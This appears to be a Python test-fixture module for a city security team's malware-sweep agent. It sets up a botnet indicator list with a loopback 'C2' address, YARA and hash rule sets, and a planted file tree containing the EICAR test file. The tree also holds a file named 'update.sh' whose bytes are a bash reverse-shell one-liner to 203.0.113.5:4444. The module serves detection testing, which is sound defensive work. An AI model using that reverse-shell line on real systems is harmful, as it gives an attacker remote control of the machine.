"""The sweep tests' world: a botnet list with a "C2" on 127.0.0.2, rule sets, a planted tree."""

from __future__ import annotations

import datetime as dt
import hashlib
import socket
from contextlib import contextmanager
from pathlib import Path

from django.utils import timezone

from citysoc.intel.models import CleanupTask, Indicator, IndicatorSource, ListVersion
from citysoc.sweep.models import RuleSet
from tests.agent.support import EICAR, EICAR_RULE, FIXTURES

# On loopback, so a test can really connect to it; the list calls it a C2. The agent lists
# every connection of the machine, the other xdist worker's too: no other test may use
# this address (the syslog tests send from 127.0.0.3 and 127.0.0.4, the agent's own check tests use
# 127.0.0.5), or a clean re-sweep would see their connection and report "infected".
C2 = "127.0.0.2"
REVERSE_SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
LISTED = b"a dropper the city's hash list names\n"


def botnet_list(period: str = "2024-01") -> ListVersion:
    source, _ = IndicatorSource.objects.get_or_create(name="NCSC botnet list")
    version = ListVersion.objects.create(
        source=source,
        period=period,
        filename=f"botnet-{period}.csv",
        sha256=hashlib.sha256(period.encode()).hexdigest(),
        status=ListVersion.Status.DONE,
    )
    Indicator.objects.create(version=version, row=1, value=C2, kind="ipv4", is_c2=True)
    Indicator.objects.create(version=version, row=2, value="c2.botnet.example", kind="domain")
    return version


def rule_sets() -> None:
    yara = (FIXTURES / "yara/rules.yar").read_text()
    for name, kind, text in (
        ("defectdojo-sample", RuleSet.Kind.YARA, yara),
        ("citysoc-builtin", RuleSet.Kind.YARA, EICAR_RULE),
        ("city-hashes", RuleSet.Kind.HASHES, f"{hashlib.sha256(LISTED).hexdigest()};dropper\n"),
    ):
        RuleSet.objects.create(
            name=name,
            version=1,
            kind=kind,
            text=text,
            sha256=hashlib.sha256(text.encode()).hexdigest(),
        )


def plant(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "eicar.com").write_bytes(EICAR)
    (root / "www").mkdir(exist_ok=True)
    (root / "www" / "update.sh").write_bytes(REVERSE_SHELL)
    (root / "listed.bin").write_bytes(LISTED)
    (root / "notes.txt").write_text("nothing to see\n")
    return root


def clean(root: Path) -> None:
    for name in ("eicar.com", "www/update.sh", "listed.bin"):
        (root / name).unlink()


@contextmanager
def connection_to_c2():
    """A live TCP connection from this process to the listed C2 address."""
    server = socket.create_server((C2, 0))
    client = socket.create_connection(server.getsockname(), source_address=("127.0.0.1", 0))
    accepted, _ = server.accept()
    try:
        yield server.getsockname()[1]
    finally:
        for s in (client, accepted, server):
            s.close()


def botnet_task(unit, host, version: ListVersion) -> CleanupTask:
    return CleanupTask.objects.create(
        unit=unit,
        host=host,
        ip=host.ipv4,
        family="mirai",
        due_date=timezone.localdate() + dt.timedelta(days=7),
        opened_by_version=version,
        last_seen_version=version,
    )


def envelope(agent, hits: list[dict], *, verdict: str = "clean", **payload) -> dict:
    """A result signed with the agent's secret, as the agent sends it."""
    import hmac
    import json

    body = json.dumps({"kind": "result", "payload": {"hits": hits, "verdict": verdict, **payload}})
    signature = hmac.new(agent.secret.encode(), body.encode(), hashlib.sha256).hexdigest()
    return {"agent": agent.key, "body": body, "signature": signature}
